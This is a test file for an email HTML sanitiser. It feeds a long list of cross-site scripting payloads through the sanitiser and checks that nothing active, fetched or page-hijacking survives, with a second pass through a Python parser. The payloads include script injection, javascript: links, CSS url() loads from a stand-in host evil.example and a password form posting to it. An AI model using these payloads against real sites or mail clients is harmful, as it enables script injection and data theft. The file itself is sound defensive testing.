import { execFileSync } from 'node:child_process'
import t from 'tap'
import { sanitiseHtml } from '../../../src/mime/html/sanitise.js'
import { peer } from '../../support/peers/peers.js'

const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='

/** What is tried to get a script run, something fetched, or the page around taken over. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT >',
  '<script\n/x>alert(1)</script\t>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example/x.css"; body{background:url(//evil.example/y)}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x archive=//evil.example/x.jar>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x.example/1">x</a>',
  '<a href="https://x.example" ping="//evil.example" target="_self" onclick=alert(1)>x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x" lowsrc="//evil.example/" longdesc="//evil.example">',
  '<img src="cid:x" style="background:url(https://evil.example/)">',
  '<image src="https://evil.example/">',
  '<input type=image src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">Log in</button></form>',
  '<isindex action="javascript:alert(1)" type=submit>',
  '<video poster="//evil.example/"><source onerror=alert(1)></video><audio src=//evil.example/ autoplay>',
  '<body background="//evil.example/x" onload=alert(1)>',
  '<table background="https://evil.example/"><td background="//evil.example/">x</table>',
  '<div style="background-image:url(https://evil.example/x)">x</div>',
  '<div style="background:u\\72l(https://evil.example/x)">x</div>',
  '<div style="width:expression(alert(1));behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/)">x</div>',
  '<div style="color:red;position:fixed;top:0;left:0;width:9999px;z-index:9">over everything</div>',
  '<div style="margin-left:-9999px;text-indent:-999em">x</div>',
  '<p style="font-family:\'x\';}*{background:url(//evil.example)}">x</p>',
  '<p style="color:red;/*">x</p><p style="*/background:url(//evil.example)">y</p>',
  '<div id=getElementById name=cookie class=modal data-x=1 contenteditable tabindex=1 accesskey=x>x</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title></title><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>',
  '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="https://x.example/?a=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  '<a href="https://x.example" <script>alert(1)</script>>x</a>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<portal src="https://evil.example"></portal><dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>',
  '<p/onmouseover="alert(1)"/style="x:y">x</p>',
  '<\u0000script>alert(1)</\u0000script>',
  '<a\u000bhref="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<img src="data:image/png;base64,AAAA\" onerror=alert(1) x=\"">',
  '<img src="cid:x&quot; onerror=alert(1)">',
]

const ELEMENTS = new Set(
  (
    'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption ' +
    'figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q rp rt ruby s samp section small span strike ' +
    'strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr'
  ).split(' '),
)
const ATTRIBUTES = new Set(
  (
    'align alt bgcolor border cellpadding cellspacing color colspan dir face height href lang noshade nowrap rel rowspan size span src start ' +
    'style title type valign value width'
  ).split(' '),
)

/** Nothing but text without `<`, and tags in the one form in which every parser reads them the same. */
function problems(html: string): string[] {
  const found: string[] = []
  const rest = html.replace(
    /<(\/?)([a-z][a-z0-9]*)((?: [a-z]+(?:="[^"<>]*")?)*)( ?\/?)>/g,
    (_, _end, name: string, attributes: string) => {
      if (!ELEMENTS.has(name)) found.push(`element ${name}`)
      for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)(?:="([^"<>]*)")?/g))
        found.push(...badAttribute(attribute, value))
      return ''
    },
  )
  if (/[<>]/.test(rest.replaceAll('&gt;', ''))) found.push(`markup in ${rest}`)
  return found
}

function badAttribute(name: string, value: string): string[] {
  if (!ATTRIBUTES.has(name)) return [`attribute ${name}`]
  if (name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(value)) return [`href ${value}`]
  if (name === 'src' && !/^(?:cid:|data:image\/(?:png|jpe?g|gif|webp|bmp);base64,)/.test(value)) return [`src ${value}`]
  if (name === 'style' && /url|expression|import|position|behavior|binding|\\|\/\*|-\d/i.test(value))
    return [`style ${value}`]
  return []
}

t.test('whatever is written into a message, nothing of it acts or is fetched when it is read', async (t) => {
  const active: [string, string[]][] = []
  const unstable: string[] = []
  for (const attack of ATTACKS) {
    for (const html of [
      attack,
      `<p>before${attack}after`,
      `<table><tr><td>${attack}`,
      `<div title='${attack}'>${attack}</div>`,
    ]) {
      const safe = sanitiseHtml(html)
      if (problems(safe).length > 0) active.push([html, problems(safe)])
      if (sanitiseHtml(safe) !== safe) unstable.push(safe)
    }
  }
  t.strictSame(active, [])
  t.strictSame(unstable, [], 'and it stays as it is when it is sanitised once more')
})

t.test('another parser finds nothing active in it either', peer('python3', '/usr/bin/python3'), async (t) => {
  const program = `
import html.parser, json, sys
class P(html.parser.HTMLParser):
    def handle_starttag(self, tag, attrs): seen.append([tag, [[k, v or ''] for k, v in attrs]])
    def handle_comment(self, data): seen.append(['!--', []])
    def handle_decl(self, data): seen.append(['!', []])
    def handle_pi(self, data): seen.append(['?', []])
    def unknown_decl(self, data): seen.append(['![', []])
seen = []
for text in json.load(sys.stdin):
    p = P(); p.feed(text); p.close()
json.dump(seen, sys.stdout)
`
  const input = JSON.stringify(ATTACKS.map((attack) => sanitiseHtml(`<p>x${attack}<i>y`)))
  const seen: [string, [string, string][]][] = JSON.parse(
    execFileSync('/usr/bin/python3', ['-c', program], { input, encoding: 'utf8' }),
  )
  t.ok(seen.length >= 2 * ATTACKS.length)
  t.strictSame(
    seen.flatMap(([tag, attributes]) => [
      ...(ELEMENTS.has(tag) ? [] : [tag]),
      ...attributes.flatMap(([name, value]) => badAttribute(name, value)),
    ]),
    [],
  )
})

t.test('text, its shape, links and own images stay', async (t) => {
  const html = [
    '<h1 style="color:#333;text-align:center">Hello</h1>',
    '<table width="600" cellpadding="0"><tr><td style="padding:10px 20px;font-size:14px" colspan="2">cell</td></tr></table>',
    '<a href="https://shop.example/?a=1&amp;b=2">shop</a>',
    '<a href="mailto:a@x.example">mail</a>',
    '<img src="cid:pic@x" alt="chart" width="10" />',
    `<img src="${PIXEL}" />`,
    '<img src="https://elsewhere.example/x.png" alt="logo" />',
  ]
  const safe = sanitiseHtml(html.join('\n')).split('\n')
  t.equal(safe[0], html[0])
  t.match(safe[1], /padding:10px 20px;font-size:14px.*cell/)
  t.equal(safe[2], '<a href="https://shop.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">shop</a>')
  t.equal(safe[3], '<a href="mailto:a@x.example" rel="noopener noreferrer nofollow">mail</a>')
  t.match(safe[4], /src="cid:pic@x"/)
  t.equal(safe[5], html[5])
  t.equal(safe[6], '<img alt="logo" />')
})
